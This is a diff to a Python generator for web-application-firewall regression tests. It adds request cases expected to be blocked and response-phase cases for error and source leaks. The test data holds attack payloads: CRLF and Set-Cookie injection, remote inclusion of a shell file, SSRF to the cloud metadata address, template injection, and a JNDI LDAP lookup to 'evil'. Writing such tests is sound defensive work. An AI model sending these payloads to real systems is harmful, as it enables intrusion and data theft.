@@ -208,6 +208,109 @@ CASES = [
         ("single notice stays under threshold", "GET", "/?q=100%zz", {}, None,
          ("score", [920220])),
     ]),
+    # --- request families added with the response-phase expansion ---
+    (921110, [
+        ("CRLF then header field in parameter", "GET",
+         "/?q=a%0d%0aContent-Type:%20evil", {}, None, ("block", [921110])),
+        ("bare newline without header shape passes", "GET",
+         "/?q=line1%0aline2", {}, None, ("pass",)),
+    ]),
+    (921130, [
+        ("response-splitting set-cookie injection", "GET",
+         "/?q=x%0d%0aSet-Cookie:%20sid%3Devil", {}, None,
+         ("block", [921110, 921130])),
+    ]),
+    (931100, [
+        ("remote include of raw-IP URL", "GET",
+         "/?page=http://10.0.0.1/shell.txt", {}, None,
+         ("block", [931100, 931130])),
+        ("inclusion param with local value passes", "GET", "/?page=about", {},
+         None, ("pass",)),
+    ]),
+    (934110, [
+        ("cloud metadata SSRF target", "GET",
+         "/?url=http://169.254.169.254/latest/meta-data/", {}, None,
+         ("block", [934110])),
+    ]),
+    (934130, [
+        ("prototype pollution parameter name", "GET", "/?__proto__[x]=1", {},
+         None, ("block", [934130])),
+        ("benign proto-ish word passes", "GET", "/?proto=classic", {}, None,
+         ("pass",)),
+    ]),
+    (934160, [
+        ("jinja-style template injection", "GET",
+         "/?tpl=%7B%7Bconfig.items()%7D%7D", {}, None, ("block", [934160])),
+    ]),
+    (944150, [
+        ("jndi ldap lookup injection", "GET",
+         "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", {}, None,
+         ("block", [944150])),
+    ]),
+    (944100, [
+        ("java runtime execution names", "GET",
+         "/?cmd=Runtime.getRuntime().exec", {}, None, ("block", [944100])),
+    ]),
+    (944210, [
+        ("serialized object stream marker in body", "POST", "/submit",
+         {"Content-Type": "application/x-www-form-urlencoded"},
+         "data=rO0ABQhelloworld", ("block", [944210])),
+    ]),
+]
+
+# Response-phase cases (loader extension: input.response injects the
+# upstream response; go-ftw proper needs a live backend for these).
+# Tuple: (desc, method, uri, headers, body, response{status,data}, expect)
+RESPONSE_CASES = [
+    (950100, [
+        ("5xx status scores and outbound eval blocks", "GET", "/health", {},
+         None, {"status": 500, "data": "internal error"},
+         ("block", [950100, 959100])),
+        ("404 passes through untouched", "GET", "/nope", {}, None,
+         {"status": 404, "data": "not found"}, ("pass", 404)),
+    ]),
+    (950130, [
+        ("directory listing leak blocked", "GET", "/files/", {}, None,
+         {"status": 200, "data": "<html><title>Index of /backup</title></html>"},
+         ("block", [950130, 959100])),
+        ("normal page passes", "GET", "/files/readme", {}, None,
+         {"status": 200, "data": "<html><title>Readme</title></html>"},
+         ("pass", 200)),
+    ]),
+    (951100, [
+        ("oracle error signature leak blocked", "GET", "/report", {}, None,
+         {"status": 200, "data": "ORA-00933: SQL command not properly ended"},
+         ("block", [951100, 959100])),
+    ]),
+    (951230, [
+        ("mysql syntax error leak blocked", "GET", "/q", {}, None,
+         {"status": 200, "data": "You have an error in your SQL syntax near 'x'"},
+         ("block", [951230, 959100])),
+    ]),
+    (953100, [
+        ("php fatal error leak blocked", "GET", "/app", {}, None,
+         {"status": 200,
+          "data": "Fatal error: Uncaught Error in /var/www/index.php on line 3"},
+         ("block", [953100, 959100])),
+    ]),
+    (953110, [
+        ("php source leak blocked", "GET", "/backup.php", {}, None,
+         {"status": 200, "data": "<?php echo $secret; ?>"},
+         ("block", [953110, 959100])),
+    ]),
+    (954100, [
+        ("iis odbc error leak blocked", "GET", "/asp", {}, None,
+         {"status": 200,
+          "data": "Microsoft OLE DB Provider for SQL Server error '80040e14'"},
+         ("block", [954100, 959100])),
+    ]),
+    (954120, [
+        ("asp.net runtime error page blocked", "GET", "/aspnet", {}, None,
+         {"status": 200, "data": "<title>Runtime Error</title>"},
+         ("block", [954120, 959100])),
+        ("asp.net normal page passes", "GET", "/aspnet/ok", {}, None,
+         {"status": 200, "data": "<title>Welcome</title>"}, ("pass", 200)),
+    ]),
 ]
 
 
@@ -215,7 +318,7 @@ def _yaml_str(s: str) -> str:
     return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'
 
 
-def emit(rule_id: int, cases: list) -> str:
+def emit(rule_id: int, cases: list, with_response: bool = False) -> str:
     lines = [
         "---",
         "meta:",
@@ -224,7 +327,12 @@ def emit(rule_id: int, cases: list) -> str:
         f"rule_id: {rule_id}",
         "tests:",
     ]
-    for i, (desc, method, uri, headers, body, expect) in enumerate(cases, 1):
+    for i, case in enumerate(cases, 1):
+        if with_response:
+            desc, method, uri, headers, body, response, expect = case
+        else:
+            desc, method, uri, headers, body = case[:5]
+            response, expect = None, case[5]
         hdrs = {"Host": "localhost", "User-Agent": UA, **headers}
         lines += [
             f"  - test_id: {i}",
@@ -239,6 +347,12 @@ def emit(rule_id: int, cases: list) -> str:
             lines.append(f"            {k}: {_yaml_str(v)}")
         if body is not None:
             lines.append(f"          data: {_yaml_str(body)}")
+        if response is not None:
+            # Loader extension: injected upstream response for phases 3/4.
+            lines.append("          response:")
+            lines.append(f"            status: {response.get('status', 200)}")
+            if response.get("data") is not None:
+                lines.append(f"            data: {_yaml_str(response['data'])}")
         lines.append("        output:")
         if expect[0] == "block":
             lines.append("          status: 403")
@@ -249,7 +363,8 @@ def emit(rule_id: int, cases: list) -> str:
             lines.append("          log:")
             lines.append(f"            expect_ids: {list(expect[1])}")
         else:
-            lines.append("          status: 200")
+            passthrough = expect[1] if len(expect) > 1 else 200
+            lines.append(f"          status: {passthrough}")
     return "\n".join(lines) + "\n"
 
 
@@ -261,7 +376,12 @@ def main() -> None:
     for rule_id, cases in CASES:
         (OUT / f"{rule_id}.yaml").write_text(emit(rule_id, cases))
         total += len(cases)
-    print(f"wrote {len(CASES)} files, {total} tests -> {OUT}")
+    for rule_id, cases in RESPONSE_CASES:
+        (OUT / f"{rule_id}.yaml").write_text(emit(rule_id, cases, with_response=True))
+        total += len(cases)
+    print(
+        f"wrote {len(CASES) + len(RESPONSE_CASES)} files, {total} tests -> {OUT}"
+    )
 
 
 if __name__ == "__main__":
